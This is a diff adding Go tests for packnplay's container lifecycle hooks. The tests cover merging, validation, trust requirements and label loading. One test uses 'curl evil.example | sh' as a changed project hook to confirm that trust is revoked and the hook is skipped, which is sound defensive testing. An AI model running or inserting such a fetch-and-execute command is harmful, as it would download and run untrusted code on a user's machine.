@@ -0,0 +1,152 @@
+package runner
+
+import (
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/obra/packnplay/pkg/devcontainer"
+	"github.com/obra/packnplay/pkg/hooks"
+)
+
+func TestContainerHooks(t *testing.T) {
+	t.Setenv("XDG_DATA_HOME", t.TempDir())
+	project := t.TempDir()
+	devConfig := &devcontainer.Config{Customizations: map[string]json.RawMessage{
+		"packnplay": json.RawMessage(`{"hooks": {"pre-create": ["./scripts/vpn-up"], "post-stop": ["./scripts/vpn-down"]}}`),
+	}}
+	global := hooks.Hooks{hooks.PreCreate: {"inventory register"}}
+
+	got, err := containerHooks(&RunConfig{Hooks: global, TrustHooks: true}, devConfig, project)
+	if err != nil {
+		t.Fatalf("containerHooks() error = %v", err)
+	}
+	if strings.Join(got[hooks.PreCreate], ",") != "inventory register,./scripts/vpn-up" {
+		t.Errorf("pre-create = %v, want config hooks before project hooks", got[hooks.PreCreate])
+	}
+	if len(got[hooks.PostStop]) != 1 {
+		t.Errorf("post-stop = %v", got[hooks.PostStop])
+	}
+
+	if _, err := containerHooks(&RunConfig{Hooks: hooks.Hooks{"post-start": {"x"}}}, &devcontainer.Config{}, project); err == nil {
+		t.Error("containerHooks() should reject unknown hooks in config")
+	}
+	bad := &devcontainer.Config{Customizations: map[string]json.RawMessage{
+		"packnplay": json.RawMessage(`{"hooks": {"before-create": ["x"]}}`),
+	}}
+	if _, err := containerHooks(&RunConfig{}, bad, project); err == nil {
+		t.Error("containerHooks() should reject unknown project hooks")
+	}
+}
+
+func TestContainerHooksRequireTrust(t *testing.T) {
+	t.Setenv("XDG_DATA_HOME", t.TempDir())
+	project := t.TempDir()
+	projectHooks := func(command string) *devcontainer.Config {
+		return &devcontainer.Config{Customizations: map[string]json.RawMessage{
+			"packnplay": json.RawMessage(`{"hooks": {"pre-create": ["` + command + `"]}}`),
+		}}
+	}
+	global := hooks.Hooks{hooks.PreCreate: {"inventory register"}}
+	preCreate := func(config *RunConfig, devConfig *devcontainer.Config) (string, string) {
+		t.Helper()
+		var got hooks.Hooks
+		stderr := captureStderr(t, func() {
+			var err error
+			if got, err = containerHooks(config, devConfig, project); err != nil {
+				t.Fatalf("containerHooks() error = %v", err)
+			}
+		})
+		return strings.Join(got[hooks.PreCreate], ","), stderr
+	}
+
+	got, stderr := preCreate(&RunConfig{Hooks: global}, projectHooks("./scripts/vpn-up"))
+	if got != "inventory register" || !strings.Contains(stderr, "pre-create: ./scripts/vpn-up") {
+		t.Errorf("untrusted project hooks = %q (stderr %q), want them skipped and listed", got, stderr)
+	}
+
+	// A dry run shows trusted hooks without recording the trust
+	if got, _ := preCreate(&RunConfig{Hooks: global, TrustHooks: true, DryRun: true}, projectHooks("./scripts/vpn-up")); got != "inventory register,./scripts/vpn-up" {
+		t.Errorf("dry-run trusted hooks = %q", got)
+	}
+	if got, _ := preCreate(&RunConfig{Hooks: global}, projectHooks("./scripts/vpn-up")); got != "inventory register" {
+		t.Errorf("hooks = %q, a dry run shouldn't record trust", got)
+	}
+
+	preCreate(&RunConfig{Hooks: global, TrustHooks: true}, projectHooks("./scripts/vpn-up"))
+	if got, _ := preCreate(&RunConfig{Hooks: global}, projectHooks("./scripts/vpn-up")); got != "inventory register,./scripts/vpn-up" {
+		t.Errorf("trusted hooks = %q, want them run on later runs", got)
+	}
+
+	// Changing the hooks, say from inside the container, revokes the trust
+	if got, _ := preCreate(&RunConfig{Hooks: global}, projectHooks("curl evil.example | sh")); got != "inventory register" {
+		t.Errorf("changed hooks = %q, want them skipped", got)
+	}
+	if got, _ := preCreate(&RunConfig{Hooks: global}, projectHooks("./scripts/vpn-up")); got == "inventory register" {
+		t.Error("trust is kept per project, so the original hooks should still run")
+	}
+	if got, _ := containerHooks(&RunConfig{Hooks: global}, projectHooks("./scripts/vpn-up"), t.TempDir()); len(got[hooks.PreCreate]) != 1 {
+		t.Errorf("hooks = %v, trust shouldn't carry over to another project", got)
+	}
+}
+
+func TestLoadContainerHooks(t *testing.T) {
+	dir := t.TempDir()
+	value, err := hooksLabelValue(hooks.Hooks{hooks.PostStop: {"cat > payload.json"}}, dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	labels, _ := json.Marshal(map[string]string{
+		"packnplay-project":  "demo",
+		"packnplay-worktree": "main",
+		HooksLabel:           value,
+	})
+	client := &mockDockerClient{inspectOut: "abc123|packnplay-demo-devcontainer:latest|" + string(labels)}
+
+	h, payload, err := LoadContainerHooks(client, "packnplay-demo-main")
+	if err != nil {
+		t.Fatalf("LoadContainerHooks() error = %v", err)
+	}
+	want := hooks.Payload{
+		Container:   "packnplay-demo-main",
+		ContainerID: "abc123",
+		Image:       "packnplay-demo-devcontainer:latest",
+		Project:     "demo",
+		Worktree:    "main",
+		HostPath:    dir,
+		Runtime:     "docker",
+	}
+	if payload != want {
+		t.Errorf("payload = %+v, want %+v", payload, want)
+	}
+
+	if err := h.Run(hooks.PostStop, payload, false); err != nil {
+		t.Fatalf("Run() error = %v", err)
+	}
+	data, err := os.ReadFile(filepath.Join(dir, "payload.json"))
+	if err != nil {
+		t.Fatalf("hook should run in the project directory: %v", err)
+	}
+	if !strings.Contains(string(data), `"hook":"post-stop"`) {
+		t.Errorf("payload = %s", data)
+	}
+}
+
+func TestLoadContainerHooksWithoutLabel(t *testing.T) {
+	client := &mockDockerClient{inspectOut: `abc123|ubuntu:22.04|{"managed-by":"packnplay"}`}
+	h, payload, err := LoadContainerHooks(client, "packnplay-demo-main")
+	if err != nil {
+		t.Fatalf("LoadContainerHooks() error = %v", err)
+	}
+	if len(h) != 0 {
+		t.Errorf("hooks = %v, want none", h)
+	}
+	if payload.ContainerID != "abc123" {
+		t.Errorf("payload = %+v", payload)
+	}
+	if value, _ := hooksLabelValue(nil, "/tmp"); value != "" {
+		t.Errorf("hooksLabelValue(nil) = %q, want no label", value)
+	}
+}